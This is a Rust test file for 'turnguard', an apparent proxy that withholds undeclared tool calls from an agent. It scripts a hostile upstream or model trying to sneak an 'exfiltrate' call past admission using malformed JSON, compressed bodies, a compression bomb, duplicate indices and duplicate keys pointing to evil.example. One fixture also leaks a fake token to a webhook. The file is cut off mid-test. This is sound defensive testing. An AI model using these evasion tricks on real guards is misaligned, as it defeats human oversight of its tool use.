//! Attacks on this leg: see [`super`] for the attacker and the rule.
//!
//! The upstream (or the model, through it) tries to get a call to `exfiltrate` — a tool the
//! request never declares, so admission always withholds it — to the agent without
//! admission deciding it. The `policy-open` bundle ends the turn for a withheld call, so a
//! correct stream never carries the word `exfiltrate` in a tool-call event; each test also
//! shows the provider-shaped error (or the end-turn text) the agent gets instead.

use std::io::Write;

use serde_json::{json, Value};
use turnguard::mock_provider::Script;

use crate::support::{self, Harness};

const EVIL: &str = "exfiltrate";

fn chat_request(stream: bool) -> Value {
    json!({"model": "gpt-4o-mini", "stream": stream,
        "messages": [{"role": "user", "content": "weather?"}],
        "tools": [{"type": "function", "function": {"name": "get_weather", "parameters": {"type": "object"}}}]})
}

fn messages_request(stream: bool) -> Value {
    json!({"model": "claude-test", "max_tokens": 1024, "stream": stream,
        "messages": [{"role": "user", "content": "weather?"}],
        "tools": [{"name": "get_weather", "input_schema": {"type": "object"}}]})
}

fn responses_request(stream: bool) -> Value {
    json!({"model": "gpt-5", "stream": stream, "input": "weather?",
        "tools": [{"type": "function", "name": "get_weather", "parameters": {"type": "object"}}]})
}

fn chunk(choices: Value) -> String {
    json!({"id": "chatcmpl-x", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": choices})
        .to_string()
}

fn chat_call_chunk(id: &str, name: &str, args: &str) -> String {
    chunk(
        json!([{"index": 0, "delta": {"role": "assistant", "content": null, "tool_calls": [
        {"index": 0, "id": id, "type": "function", "function": {"name": name, "arguments": args}}]}, "finish_reason": null}]),
    )
}

fn chat_finish(reason: &str) -> String {
    chunk(json!([{"index": 0, "delta": {}, "finish_reason": reason}]))
}

fn ev(name: &str, data: &Value) -> String {
    format!("event: {name}\ndata: {data}")
}

fn message_start() -> String {
    message_start_holding(json!([]))
}

/// A `message_start` whose message holds `content` (the API's is always `[]`).
fn message_start_holding(content: Value) -> String {
    ev(
        "message_start",
        &json!({"type": "message_start", "message": {"id": "msg_x", "type": "message", "role": "assistant",
        "model": "claude-test", "content": content, "stop_reason": null, "stop_sequence": null,
        "usage": {"input_tokens": 5, "output_tokens": 1}}}),
    )
}

/// A complete text block at `index`.
fn text_block(index: u64, text: &str) -> Vec<String> {
    vec![
        ev(
            "content_block_start",
            &json!({"type": "content_block_start", "index": index, "content_block": {"type": "text", "text": ""}}),
        ),
        ev(
            "content_block_delta",
            &json!({"type": "content_block_delta", "index": index, "delta": {"type": "text_delta", "text": text}}),
        ),
        block_stop(index),
    ]
}

/// A stream's bytes from its blocks (each without its blank line).
fn sse(blocks: &[String]) -> String {
    blocks.join("\n\n") + "\n\n"
}

fn tool_use_start(index: Value, id: &str, name: &str) -> String {
    ev(
        "content_block_start",
        &json!({"type": "content_block_start", "index": index,
        "content_block": {"type": "tool_use", "id": id, "name": name, "input": {}}}),
    )
}

fn block_delta(index: u64, json_part: &str) -> String {
    ev(
        "content_block_delta",
        &json!({"type": "content_block_delta", "index": index,
        "delta": {"type": "input_json_delta", "partial_json": json_part}}),
    )
}

fn block_stop(index: u64) -> String {
    ev(
        "content_block_stop",
        &json!({"type": "content_block_stop", "index": index}),
    )
}

fn message_end(stop_reason: &str) -> Vec<String> {
    vec![
        ev(
            "message_delta",
            &json!({"type": "message_delta", "delta": {"stop_reason": stop_reason, "stop_sequence": null},
            "usage": {"output_tokens": 9}}),
        ),
        ev("message_stop", &json!({"type": "message_stop"})),
    ]
}

/// POSTs `body` to `path` with the mock serving `step`; returns status, headers and body.
async fn exchange(
    h: &Harness,
    path: &str,
    step: Value,
    body: &Value,
) -> (u16, http::HeaderMap, String) {
    h.script(&json!({"responses": [step]})).await;
    let (status, headers, resp) = support::call(
        "POST",
        &format!("{}{path}", h.url()),
        &[("anthropic-version", "2023-06-01".into())],
        Some(body),
    )
    .await;
    (status, headers, String::from_utf8_lossy(&resp).into_owned())
}

/// [`exchange`] with the mock serving `bytes` exactly as given (a body serde could not write:
/// a key twice, a stream cut mid-event), from file `name` in a directory of its own (the mock
/// serves a `.sse` file as an event stream).
async fn exchange_bytes(
    h: &Harness,
    path: &str,
    (name, bytes): (&str, impl AsRef<[u8]>),
    body: &Value,
) -> (u16, http::HeaderMap, String) {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join(name);
    std::fs::write(&file, bytes).unwrap();
    exchange(h, path, json!({"file": file}), body).await
}

/// A tool-call structure naming the evil tool (the end-turn explanation may name it).
fn carries_call(body: &str) -> bool {
    body.contains(&format!("\"name\":\"{EVIL}\""))
}

/// The agent's stream never carried the evil call and ended with the provider's error event.
fn assert_withheld_with_error(body: &str, what: &str) {
    assert!(
        !carries_call(body),
        "{what}: the call left the stream unadmitted:\n{body}"
    );
    assert!(
        body.contains("turnguard"),
        "{what}: the stream ends with turnguard's provider-shaped error:\n{body}"
    );
}

/// Item 7: a stream event whose JSON serde rejects (but the SDKs parse) is never forwarded
/// raw: the stream ends with the provider-shaped error instead.
#[tokio::test]
async fn an_event_turnguard_cannot_parse_is_never_forwarded() {
    let h = support::start(Script::default()).await;
    let deep = format!("{}1{}", "[".repeat(200), "]".repeat(200));
    for (label, extra) in [
        ("NaN", "NaN".to_owned()),
        ("1e400", "1e400".to_owned()),
        ("lone surrogate", "\"\\ud800\"".to_owned()),
        ("nesting past the parser's limit", deep),
    ] {
        // The whole call rides in one chunk whose extra field serde rejects.
        let evil = chat_call_chunk("call_evil", EVIL, "{}");
        let evil = format!("{},\"x\":{extra}}}", evil.trim_end_matches('}'));
        let step = json!({"sse": [format!("data: {evil}"), format!("data: {}", chat_finish("tool_calls")), "data: [DONE]"]});
        let (status, _, body) =
            exchange(&h, "/v1/chat/completions", step, &chat_request(true)).await;
        assert_eq!(status, 200, "{label}");
        assert_withheld_with_error(&body, label);
    }
    // A data payload that is JSON but not an event object, and one that is not JSON at all.
    for (label, data) in [
        (
            "not an object",
            format!("[{}]", chat_call_chunk("call_evil", EVIL, "{}")),
        ),
        (
            "not JSON",
            format!("{{{}", chat_call_chunk("call_evil", EVIL, "{}")),
        ),
    ] {
        let step = json!({"sse": [format!("data: {data}"), format!("data: {}", chat_finish("tool_calls")), "data: [DONE]"]});
        let (_, _, body) = exchange(&h, "/v1/chat/completions", step, &chat_request(true)).await;
        assert_withheld_with_error(&body, label);
    }
    h.stop().await;
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(bytes).unwrap();
    enc.finish().unwrap()
}

/// Item 7: a compressed body is decoded before it is classified (gzip, deflate) or refused
/// (any other coding); it is never relayed to the agent as opaque bytes.
#[tokio::test]
async fn a_compressed_upstream_body_is_decoded_or_refused() {
    let h = support::start(Script::default()).await;
    let dir = tempfile::tempdir().unwrap();
    let sse = format!(
        "data: {}\n\ndata: {}\n\ndata: [DONE]\n\n",
        chat_call_chunk("call_evil", EVIL, "{}"),
        chat_finish("tool_calls")
    );
    let stream_file = dir.path().join("evil.sse");
    std::fs::write(&stream_file, gzip(sse.as_bytes())).unwrap();
    let step = json!({"file": stream_file, "headers": {"content-encoding": "gzip"}});
    let (status, headers, body) =
        exchange(&h, "/v1/chat/completions", step, &chat_request(true)).await;
    assert_eq!(status, 200);
    assert!(
        headers.get("content-encoding").is_none(),
        "the agent gets what turnguard read, not a coded body: {headers:?}"
    );
    assert!(
        !carries_call(&body),
        "the decoded call was admitted and withheld: {body}"
    );
    assert!(
        body.contains("[turnguard]"),
        "the turn ended with the explanation: {body}"
    );
    assert!(body.ends_with("data: [DONE]\n\n"), "{body:?}");

    // Deflate (zlib) the same way, non-stream.
    let resp = json!({"id": "chatcmpl-x", "object": "chat.completion", "created": 1, "model": "m",
        "choices": [{"index": 0, "message": {"role": "assistant", "content": null, "tool_calls": [
            {"id": "call_evil", "type": "function", "function": {"name": EVIL, "arguments": "{}"}}]},
            "finish_reason": "tool_calls"}],
        "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}});
    for (coding, bytes) in [
        ("gzip", gzip(resp.to_string().as_bytes())),
        ("deflate", {
            let mut enc =
                flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
            enc.write_all(resp.to_string().as_bytes()).unwrap();
            enc.finish().unwrap()
        }),
    ] {
        let file = dir.path().join(format!("resp-{coding}.json"));
        std::fs::write(&file, bytes).unwrap();
        let step = json!({"file": file, "headers": {"content-encoding": coding}});
        let (status, headers, body) =
            exchange(&h, "/v1/chat/completions", step, &chat_request(false)).await;
        assert_eq!(status, 200, "{coding}: {body}");
        assert!(headers.get("content-encoding").is_none(), "{coding}");
        let v: Value = serde_json::from_str(&body).unwrap();
        assert!(
            v["choices"][0]["message"]["tool_calls"].is_null(),
            "{coding}: {v}"
        );
    }

    // A coding turnguard cannot read: refused before any byte reaches the agent.
    let step = json!({"sse": [format!("data: {}", chat_call_chunk("call_evil", EVIL, "{}")), "data: [DONE]"],
        "headers": {"content-encoding": "br"}});
    let (status, _, body) = exchange(&h, "/v1/chat/completions", step, &chat_request(true)).await;
    assert_eq!(status, 502, "{body}");
    assert!(!carries_call(&body), "{body}");
    assert!(body.contains("br"), "the error names the coding: {body}");
    h.stop().await;
}

/// Item 7: after the terminal event nothing unparsed follows — not an event only the end of
/// input completes, not a second terminal event.
#[tokio::test]
async fn nothing_unclassified_follows_the_terminal_event() {
    let h = support::start(Script::default()).await;
    // Anthropic: a complete text message, then a tool_use block ended by a lone `\r` that only
    // the end of the input completes. The SDK reads on after `message_stop` and would add it.
    let mut events = vec![
        message_start(),
        ev(
            "content_block_start",
            &json!({"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}),
        ),
        ev(
            "content_block_delta",
            &json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": "Sunny."}}),
        ),
        block_stop(0),
    ];
    events.extend(message_end("end_turn"));
    let mut bytes = events.join("\n\n");
    bytes.push_str("\n\n");
    bytes.push_str(&tool_use_start(json!(1), "toolu_evil", EVIL).replace('\n', "\r"));
    bytes.push_str("\r\r");
    let (status, _, body) = exchange_bytes(
        &h,
        "/v1/messages",
        ("tail.sse", bytes),
        &messages_request(true),
    )
    .await;
    assert_eq!(status, 200);
    assert!(
        !carries_call(&body),
        "an event only the end of input completed was forwarded raw:\n{body}"
    );
    assert!(body.contains("Sunny."), "{body}");

    // Responses: a second terminal event after the decision point, whose `output` carries a
    // call the first did not (the SDK's final response is the last one).
    let weather = json!({"type": "function_call", "id": "fc_1", "call_id": "call_1", "name": "get_weather", "arguments": "{}", "status": "completed"});
    let evil = json!({"type": "function_call", "id": "fc_2", "call_id": "call_2", "name": EVIL, "arguments": "{}", "status": "completed"});
    let completed = |n: u64, output: Value| {
        ev(
            "response.completed",
            &json!({"type": "response.completed", "sequence_number": n, "response": {
            "id": "resp_x", "object": "response", "status": "completed", "output": output,
            "usage": {"input_tokens": 5, "output_tokens": 5, "total_tokens": 10}}}),
        )
    };
    let step = json!({"sse": [
        ev("response.created", &json!({"type": "response.created", "sequence_number": 0, "response": {"id": "resp_x", "object": "response", "status": "in_progress", "output": []}})),
        ev("response.output_item.added", &json!({"type": "response.output_item.added", "sequence_number": 1, "output_index": 0, "item": weather})),
        ev("response.output_item.done", &json!({"type": "response.output_item.done", "sequence_number": 2, "output_index": 0, "item": weather})),
        completed(3, json!([weather])),
        completed(4, json!([weather, evil])),
    ]});
    let (status, _, body) = exchange(&h, "/v1/responses", step, &responses_request(true)).await;
    assert_eq!(status, 200);
    assert_withheld_with_error(&body, "a second response.completed");
    h.stop().await;
}

/// Item 8: a structure that does not identify each call uniquely fails closed — two
/// `content_block_start` on one index, a `tool_use` whose `index` is missing, not an integer
/// or negative, two Chat choices with one `index`.
#[tokio::test]
async fn every_call_is_identified_uniquely_or_the_turn_fails_closed() {
    let h = support::start(Script::default()).await;
    // Two blocks on index 0: the SDK appends both; admission must not decide only the last.
    let mut events = vec![
        message_start(),
        tool_use_start(json!(0), "toolu_evil", EVIL),
        tool_use_start(json!(0), "toolu_w", "get_weather"),
        block_delta(0, "{}"),
        block_stop(0),
    ];
    events.extend(message_end("tool_use"));
    let (status, _, body) = exchange(
        &h,
        "/v1/messages",
        json!({"sse": events}),
        &messages_request(true),
    )
    .await;
    assert_eq!(status, 200);
    assert_withheld_with_error(&body, "two content_block_start on one index");

    for index in [Value::Null, json!("0"), json!(-1), json!(0.5)] {
        let start = match &index {
            Value::Null => ev(
                "content_block_start",
                &json!({"type": "content_block_start",
                "content_block": {"type": "tool_use", "id": "toolu_evil", "name": EVIL, "input": {}}}),
            ),
            i => tool_use_start(i.clone(), "toolu_evil", EVIL),
        };
        let mut events = vec![message_start(), start];
        events.extend(message_end("tool_use"));
        let (_, _, body) = exchange(
            &h,
            "/v1/messages",
            json!({"sse": events}),
            &messages_request(true),
        )
        .await;
        assert_withheld_with_error(&body, &format!("a tool_use with index {index}"));
    }

    // Chat, non-stream: two choices share index 0; the second must not take the first's
    // verdict.
    let call = |id: &str, name: &str| json!({"id": id, "type": "function", "function": {"name": name, "arguments": "{}"}});
    let resp = json!({"id": "chatcmpl-x", "object": "chat.completion", "created": 1, "model": "m",
        "choices": [
            {"index": 0, "message": {"role": "assistant", "content": null, "tool_calls": [call("call_w", "get_weather")]}, "finish_reason": "tool_calls"},
            {"index": 0, "message": {"role": "assistant", "content": null, "tool_calls": [call("call_evil", EVIL)]}, "finish_reason": "tool_calls"}
        ],
        "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}});
    let (status, _, body) = exchange(
        &h,
        "/v1/chat/completions",
        json!({"json": resp}),
        &chat_request(false),
    )
    .await;
    assert!(!carries_call(&body), "{body}");
    assert_eq!(status, 502, "{body}");
    h.stop().await;
}

/// Issue 11: JSON shapes that indexing a `serde_json::Value` would panic on (a `delta` that is
/// not an object, a `function` that is a string) end the round with a journaled record and
/// the provider-shaped answer, never a dead relay task.
#[tokio::test]
async fn hostile_json_shapes_never_kill_the_relay() {
    let h = support::start(Script::default()).await;
    // The call is withheld (undeclared), so the release path writes the end-turn stop reason
    // into this `message_delta`, whose `delta` is a string.
    let step = json!({"sse": [
        message_start(),
        tool_use_start(json!(0), "toolu_evil", EVIL),
        block_stop(0),
        ev("message_delta", &json!({"type": "message_delta", "delta": "tool_use", "usage": {"output_tokens": 9}})),
        ev("message_stop", &json!({"type": "message_stop"})),
    ]});
    let (status, _, body) = exchange(&h, "/v1/messages", step, &messages_request(true)).await;
    assert_eq!(status, 200);
    assert!(!carries_call(&body), "{body}");
    assert!(
        body.contains("event: error") || body.contains("message_stop"),
        "the stream ended properly, not cut by a panic:\n{body}"
    );
    let dir = h.stop().await;
    let conn = support::journal(&dir.path().join("journal.db"));
    let rounds: i64 = conn
        .query_row("SELECT COUNT(*) FROM rounds", [], |r| r.get(0))
        .unwrap();
    assert_eq!(rounds, 1, "the round was journaled");
}

/// Issue 11, Chat: the arguments of a call to an egress tool carry a secret, so turnguard
/// replaces them in the first fragment — whose `function` is a string.
#[tokio::test]
async fn a_fragment_of_another_shape_never_kills_the_relay() {
    let h = support::start_with_policy(Script::default(), "policy-strip").await;
    let args = json!({"url": "https://hooks.example/x", "token": "sk-proj-0123456789abcdefghijklmnopqrstuv"});
    let frag = |e: Value| {
        chunk(json!([{"index": 0, "delta": {"tool_calls": [e]}, "finish_reason": null}]))
    };
    let step = json!({"sse": [
        format!("data: {}", frag(json!({"index": 0, "id": "call_s", "type": "function", "function": "post_webhook"}))),
        format!("data: {}", frag(json!({"index": 0, "function": {"name": "post_webhook", "arguments": args.to_string()}}))),
        format!("data: {}", chat_finish("tool_calls")),
        "data: [DONE]",
    ]});
    let body = json!({"model": "m", "stream": true, "messages": [{"role": "user", "content": "go"}],
        "tools": [{"type": "function", "function": {"name": "post_webhook", "parameters": {"type": "object"}}}]});
    let (status, _, text) = exchange(&h, "/v1/chat/completions", step, &body).await;
    assert_eq!(status, 200);
    assert!(
        !text.contains("sk-proj-0123"),
        "the secret was stripped: {text}"
    );
    assert!(
        text.ends_with("data: [DONE]\n\n") || text.contains("turnguard"),
        "the stream ended properly:\n{text}"
    );
    let dir = h.stop().await;
    let conn = support::journal(&dir.path().join("journal.db"));
    let rounds: i64 = conn
        .query_row("SELECT COUNT(*) FROM rounds", [], |r| r.get(0))
        .unwrap();
    assert_eq!(rounds, 1, "the round was journaled");
}

fn anthropic_answer(content: Value, stop_reason: &str) -> Value {
    json!({"id": "msg_x", "type": "message", "role": "assistant", "model": "claude-test",
        "content": content, "stop_reason": stop_reason, "stop_sequence": null,
        "usage": {"input_tokens": 10, "output_tokens": 10}})
}

/// Item 12 (§B): a refusal is not retried, and neither is context exhaustion (appending to a
/// transcript that already fills the context cannot help). Each surfaces at once, with its
/// own code.
#[tokio::test]
async fn a_refusal_or_context_exhaustion_is_not_repaired() {
    let h = support::start_with_policy(Script::default(), "policy-repair").await;
    let ticket = json!([{"type": "tool_use", "id": "toolu_t", "name": "create_ticket",
        "input": {"title": "x", "priority": "high"}}]);
    let request = json!({"model": "claude-test", "max_tokens": 1024,
        "messages": [{"role": "user", "content": "open a ticket"}],
        "tools": [{"name": "create_ticket", "input_schema": {"type": "object"}}]});
    for (stop_reason, code) in [
        ("refusal", "envelope_refusal"),
        (
            "model_context_window_exceeded",
            "envelope_truncation_unrecoverable",
        ),
    ] {
        h.script(&json!({"responses": [{"json": anthropic_answer(ticket.clone(), stop_reason)}], "repeat": true}))
            .await;
        support::post_json(&format!("{}/_mock/reset", h.mock_url()), &json!({}), &[]).await;
        let (status, _, body) = support::call(
            "POST",
            &format!("{}/v1/messages", h.url()),
            &[("anthropic-version", "2023-06-01".into())],
            Some(&request),
        )
        .await;
        let body = String::from_utf8_lossy(&body);
        assert_eq!(
            h.mock_requests().await.len(),
            1,
            "{stop_reason}: one upstream call, no repair round"
        );
        assert_eq!(status, 422, "{stop_reason}: {body}");
        assert!(
            body.contains(code),
            "{stop_reason}: surfaced as {code}: {body}"
        );
    }
    h.stop().await;

    // The prompted channel: a text answer cut by the context window is not repaired with an
    // empty assistant turn (which the real API refuses).
    let h = support::start_with_policy(Script::default(), "policy-prompted").await;
    h.script(&json!({"responses": [{"json": anthropic_answer(json!([]), "model_context_window_exceeded")}], "repeat": true}))
        .await;
    let request = json!({"model": "llama-3", "max_tokens": 1024,
        "messages": [{"role": "user", "content": "answer"}]});
    let (status, _, body) = support::call(
        "POST",
        &format!("{}/v1/messages", h.url()),
        &[("anthropic-version", "2023-06-01".into())],
        Some(&request),
    )
    .await;
    let body = String::from_utf8_lossy(&body);
    let sent = h.mock_requests().await;
    assert_eq!(sent.len(), 1, "no repair round: {sent:?}");
    assert_eq!(status, 422, "{body}");
    assert!(body.contains("envelope_truncation_unrecoverable"), "{body}");
    h.stop().await;
}

/// Item 13: truncation under every name, and from every signal: `max_tokens` /
/// `max_output_tokens` finish reasons, and a streamed `tool_calls` finish whose usage the
/// agent did not ask for.
#[tokio::test]
async fn truncation_is_truncation_under_every_name() {
    let h = support::start(Script::default()).await;
    let answer = |finish: &str| {
        json!({"id": "chatcmpl-x", "object": "chat.completion", "created": 1, "model": "m",
        "choices": [{"index": 0, "message": {"role": "assistant", "content": null, "tool_calls": [
            {"id": "call_w", "type": "function", "function": {"name": "get_weather", "arguments": "{}"}}]},
            "finish_reason": finish}],
        "usage": {"prompt_tokens": 1, "completion_tokens": 5, "total_tokens": 6}})
    };
    // Control: a clean tool_calls finish is released.
    let (_, _, body) = exchange(
        &h,
        "/v1/chat/completions",
        json!({"json": answer("tool_calls")}),
        &chat_request(false),
    )
    .await;
    assert!(body.contains("call_w"), "{body}");
    for finish in [
        "max_tokens",
        "max_output_tokens",
        "model_length",
        "something_new",
    ] {
        let (status, _, body) = exchange(
            &h,
            "/v1/chat/completions",
            json!({"json": answer(finish)}),
            &chat_request(false),
        )
        .await;
        assert_eq!(status, 200);
        let v: Value = serde_json::from_str(&body).unwrap();
        assert!(
            v["choices"][0]["message"]["tool_calls"].is_null(),
            "{finish}: withheld: {v}"
        );
    }

    // A stream with a token limit, no `include_usage`, and a `tool_calls` finish: turnguard
    // asks the upstream for usage itself and decides from it; the usage chunk the agent did
    // not ask for is not forwarded.
    let mut request = chat_request(true);
    request["max_tokens"] = json!(20);
    let usage = |n: u64| {
        chunk(json!([])).replace("\"choices\":[]", &format!("\"choices\":[],\"usage\":{{\"prompt_tokens\":1,\"completion_tokens\":{n},\"total_tokens\":{}}}", n + 1))
    };
    let stream = |tail: Vec<String>| {
        let mut s = vec![
            format!("data: {}", chat_call_chunk("call_w", "get_weather", "{}")),
            format!("data: {}", chat_finish("tool_calls")),
        ];
        s.extend(tail);
        s.push("data: [DONE]".into());
        json!({"sse": s})
    };
    support::post_json(&format!("{}/_mock/reset", h.mock_url()), &json!({}), &[]).await;
    let (_, _, body) = exchange(
        &h,
        "/v1/chat/completions",
        stream(vec![format!("data: {}", usage(7))]),
        &request,
    )
    .await;
    let sent = h.mock_requests().await;
    assert_eq!(
        sent[0]["body"]["stream_options"]["include_usage"], true,
        "usage was asked for"
    );
    assert!(body.contains("call_w"), "under the limit: released: {body}");
    assert!(
        !body.contains("completion_tokens"),
        "the usage chunk turnguard asked for is its own: {body}"
    );
    let (_, _, body) = exchange(
        &h,
        "/v1/chat/completions",
        stream(vec![format!("data: {}", usage(20))]),
        &request,
    )
    .await;
    assert!(!body.contains("call_w"), "at the limit: withheld: {body}");
    // No usage at all although it was asked for: whether the limit cut the call cannot be
    // known, so it is withheld.
    let (_, _, body) = exchange(&h, "/v1/chat/completions", stream(vec![]), &request).await;
    assert!(!body.contains("call_w"), "no usage: withheld: {body}");
    h.stop().await;
}

/// Items 7 and 8 through the official SDKs: what the agent would execute. A chunk serde
/// refuses (the Python SDK parses `NaN`) and two blocks on one index (the SDK appends both):
/// the SDK assembles no call to the undeclared tool and raises turnguard's error.
#[tokio::test]
async fn the_official_sdks_never_assemble_an_unadmitted_call() {
    let h = support::start(Script::default()).await;
    let nan = format!(
        "{},\"x\":NaN}}",
        chat_call_chunk("call_evil", EVIL, "{}").trim_end_matches('}')
    );
    let mut duplicated = vec![
        message_start(),
        tool_use_start(json!(0), "toolu_evil", EVIL),
        tool_use_start(json!(0), "toolu_w", "get_weather"),
        block_delta(0, "{}"),
        block_stop(0),
    ];
    duplicated.extend(message_end("tool_use"));
    let cases = [
        (
            "chat",
            json!({"sse": [format!("data: {nan}"), format!("data: {}", chat_finish("tool_calls")), "data: [DONE]"]}),
            chat_request(true),
        ),
        (
            "messages",
            json!({"sse": duplicated}),
            messages_request(true),
        ),
    ];
    for (api, step, request) in cases {
        h.script(&json!({"responses": [step]})).await;
        let got = sdk_stream_calls(Sdk::Python, &h, api, &request).await;
        assert_sdk_refused(&got, api);
    }
    h.stop().await;
}

/// The official SDKs of one language, as the agent.
#[derive(Clone, Copy, Debug)]
enum Sdk {
    /// `openai` and `anthropic` (`tests/sdk/stream_calls.py`).
    Python,
    /// `openai` and `@anthropic-ai/sdk` (`tests/compat/node/stream_calls.mjs`).
    Node,
}

/// Streams `request` through turnguard with `sdk`'s client for `api` (`chat` or `messages`);
/// returns the script's `{"calls": [names the SDK assembled], "error": …}`.
async fn sdk_stream_calls(sdk: Sdk, h: &Harness, api: &str, request: &Value) -> Value {
    let args: [std::ffi::OsString; 6] = [
        "--url".into(),
        h.url().into(),
        "--api".into(),
        api.into(),
        "--request".into(),
        request.to_string().into(),
    ];
    let limit = std::time::Duration::from_secs(60);
    let out = match sdk {
        Sdk::Python => support::run_sdk_script("stream_calls.py", &args, limit).await,
        Sdk::Node => support::run_node_script("stream_calls.mjs", &args, limit).await,
    };
    let stdout = String::from_utf8_lossy(&out.stdout);
    serde_json::from_str(stdout.trim()).unwrap_or_else(|_| {
        panic!(
            "{sdk:?} {api}: {stdout}\n{}",
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

/// The SDK assembled no call to the undeclared tool and raised turnguard's error.
fn assert_sdk_refused(got: &Value, what: &str) {
    assert!(
        !got["calls"].as_array().unwrap().iter().any(|c| c == EVIL),
        "{what}: the SDK assembled the unadmitted call: {got}"
    );
    assert!(
        got["error"]
            .as_str()
            .is_some_and(|e| e.contains("turnguard")),
        "{what}: the SDK raised turnguard's error: {got}"
    );
}

/// A non-stream answer is one block of the round engine: a 2xx body that is not a JSON
/// object, or one that decodes past `max_response_bytes` (a compression bomb), ends the turn
/// with a provider-shaped 502 naming what was wrong; none of its bytes reach the agent.
#[tokio::test]
async fn a_json_answer_that_is_not_an_object_or_decodes_past_the_cap_is_refused() {
    let h = support::start_with(Script::default(), |c| c.max_response_bytes = 64 * 1024).await;
    let dir = tempfile::tempdir().unwrap();
    let array = dir.path().join("array.json");
    std::fs::write(&array, format!("[\"{EVIL}\"]")).unwrap();
    let step = json!({"file": array});
    let (status, _, body) = exchange(&h, "/v1/chat/completions", step, &chat_request(false)).await;
    assert_eq!(status, 502, "{body}");
    assert!(!body.contains(EVIL), "nothing of the body went out: {body}");
    assert!(body.contains("not a JSON object"), "{body}");
    let v: Value = serde_json::from_str(&body).unwrap();
    assert!(
        v["error"]["message"].is_string(),
        "OpenAI's error shape: {v}"
    );

    // 1 MiB of spaces and a call, gzipped to about a kilobyte: the cap is on decoded bytes.
    let resp = json!({"id": "chatcmpl-x", "object": "chat.completion", "created": 1, "model": "m",
        "choices": [{"index": 0, "message": {"role": "assistant", "content": null, "tool_calls": [
            {"id": "call_evil", "type": "function", "function": {"name": EVIL, "arguments": "{}"}}]},
            "finish_reason": "tool_calls"}]});
    let padded = format!("{}{resp}", " ".repeat(1 << 20));
    let bomb = dir.path().join("bomb.json");
    std::fs::write(&bomb, gzip(padded.as_bytes())).unwrap();
    assert!(std::fs::metadata(&bomb).unwrap().len() < 8 * 1024);
    let step = json!({"file": bomb, "headers": {"content-encoding": "gzip"}});
    let (status, _, body) = exchange(&h, "/v1/chat/completions", step, &chat_request(false)).await;
    assert_eq!(status, 502, "{body}");
    assert!(!carries_call(&body), "{body}");
    assert!(
        body.contains("max_response_bytes"),
        "the error names the cap: {body}"
    );
    h.stop().await;
}

/// Chat stream: one choice streams a `tool_calls` entry and a legacy `function_call`. An SDK
/// keeps them apart (`tool_calls[0]` and `function_call`, each with its own arguments), so
/// admission judging the two glued into one call would judge arguments no call carries (here
/// `{"location":"Paris"` plus `,"dry_run":true}`: a JSON repairer on the agent's side runs
/// the first alone). The turn fails closed instead, whichever field comes first.
#[tokio::test]
async fn a_choice_streaming_tool_calls_and_a_legacy_function_call_fails_closed() {
    let h = support::start(Script::default()).await;
    let tool_call = chunk(
        json!([{"index": 0, "delta": {"role": "assistant", "tool_calls": [
        {"index": 0, "id": "call_w", "type": "function", "function": {"name": "get_weather", "arguments": "{\"location\":\"Paris\""}}]},
        "finish_reason": null}]),
    );
    let legacy = chunk(
        json!([{"index": 0, "delta": {"function_call": {"arguments": ",\"dry_run\":true}"}},
        "finish_reason": null}]),
    );
    for (what, order) in [
        ("tool_calls first", [tool_call.clone(), legacy.clone()]),
        ("function_call first", [legacy.clone(), tool_call.clone()]),
    ] {
        let step = json!({"sse": [
            format!("data: {}", order[0]),
            format!("data: {}", order[1]),
            format!("data: {}", chat_finish("tool_calls")),
            "data: [DONE]",
        ]});
        let (status, _, body) =
            exchange(&h, "/v1/chat/completions", step, &chat_request(true)).await;
        assert_eq!(status, 200, "{what}");
        assert!(
            !body.contains("dry_run") && !body.contains("call_w"),
            "{what}: a call left the stream unadmitted:\n{body}"
        );
        assert!(
            body.contains("turnguard") && body.contains("function_call"),
            "{what}: the stream ends with an error naming the ambiguity:\n{body}"
        );
    }
    // A `function_call` no SDK can read as a call is not passed along with a held call that
    // admission releases (its arguments complete here).
    let tool_call = chunk(
        json!([{"index": 0, "delta": {"role": "assistant", "tool_calls": [
        {"index": 0, "id": "call_w", "type": "function", "function": {"name": "get_weather", "arguments": "{\"location\":\"Paris\"}"}}]},
        "finish_reason": null}]),
    );
    let not_an_object = chunk(
        json!([{"index": 0, "delta": {"function_call": "exfiltrate({})"},
        "finish_reason": null}]),
    );
    let step = json!({"sse": [
        format!("data: {tool_call}"),
        format!("data: {not_an_object}"),
        format!("data: {}", chat_finish("tool_calls")),
        "data: [DONE]",
    ]});
    let (status, _, body) = exchange(&h, "/v1/chat/completions", step, &chat_request(true)).await;
    assert_eq!(status, 200);
    assert!(
        !body.contains("exfiltrate(") && !body.contains("call_w"),
        "a function_call that is not an object left the stream:\n{body}"
    );
    assert!(body.contains("not an object"), "{body}");
    h.stop().await;
}

/// The model names an argument twice (`{"city": …, "city": …}`): serde_json keeps the last
/// value, another parser the first, so what admission validated and what the agent's tool
/// reads could differ (the parser differential `strict_json` closes for request bodies).
/// Admission refuses the arguments as `arguments_duplicate_key` at any depth, stream or not,
/// and the call never reaches the agent.
#[tokio::test]
async fn arguments_with_a_key_twice_are_never_released() {
    let h = support::start(Script::default()).await;
    let cases = [
        r#"{"city":"Paris","city":"https://evil.example/?q=1"}"#,
        r#"{"where":{"city":"Paris","city":"https://evil.example/?q=1"}}"#,
    ];
    for (i, args) in cases.into_iter().enumerate() {
        for stream in [false, true] {
            let id = format!("call_dup_{i}_{stream}");
            let answer = json!({"json": {"id": "c", "object": "chat.completion", "created": 1, "model": "m",
                "choices": [{"index": 0, "finish_reason": "stop",
                    "message": {"role": "assistant", "content": "No tool, then."}}],
                "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}}});
            let first = if stream {
                json!({"sse": [format!("data: {}", chat_call_chunk(&id, "get_weather", args)), format!("data: {}", chat_finish("tool_calls")), "data: [DONE]".to_owned()]})
            } else {
                json!({"json": {"id": "c", "object": "chat.completion", "created": 1, "model": "m",
